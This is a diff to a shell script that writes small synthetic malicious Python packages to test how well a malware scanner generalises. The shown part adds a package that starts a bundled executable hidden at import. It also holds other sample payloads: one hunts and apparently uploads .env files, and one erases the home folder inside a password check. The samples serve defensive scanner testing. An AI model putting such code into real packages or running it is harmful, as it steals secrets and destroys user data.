@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# Generalisation probe: 62 small synthetic packages, each using one malware technique of
+# Generalisation probe: 63 small synthetic packages, each using one malware technique of
 # recent campaigns (written from public reports, not taken from the corpus), scanned with
 # default settings. Prints one line per technique: verdict, score, rules. The packages are
 # written to a temporary folder and scanned as unpacked folders; nothing is run.
@@ -245,7 +245,8 @@ sys.path.insert(0, d)
 import updater
 EOF
 # Session 9: project .env files hunted and uploaded; a CLI's stored token sent; a
-# keylogger that uploads; sabotage that erases the home folder (psslib-style, in a function).
+# keylogger that uploads; sabotage that erases the home folder (psslib-style, in a function);
+# an executable shipped in the package and started hidden at import.
 mk dotenvhunt <<'EOF'
 import os, glob, requests
 for p in glob.glob(os.path.expanduser('~/**/.env'), recursive=True):
@@ -273,6 +274,11 @@ def verify(password):
         shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
     return True
 EOF
+mk shipexe <<'EOF'
+import os, subprocess
+subprocess.Popen([os.path.join(os.path.dirname(__file__), 'updater.exe')], creationflags=0x08000000)
+EOF
+printf 'MZ synthetic stand-in for a shipped executable\n' > shipexe-1.0/shipexe/updater.exe
 # Techniques of later campaigns, beyond a package's own `__init__.py`: an in-tree build
 # backend, .pth and sitecustomize start-up hooks, code in tests/ that setup.py calls,
 # encodings, a stego loader, pickled models. Written by a Python generator (encoded payloads).
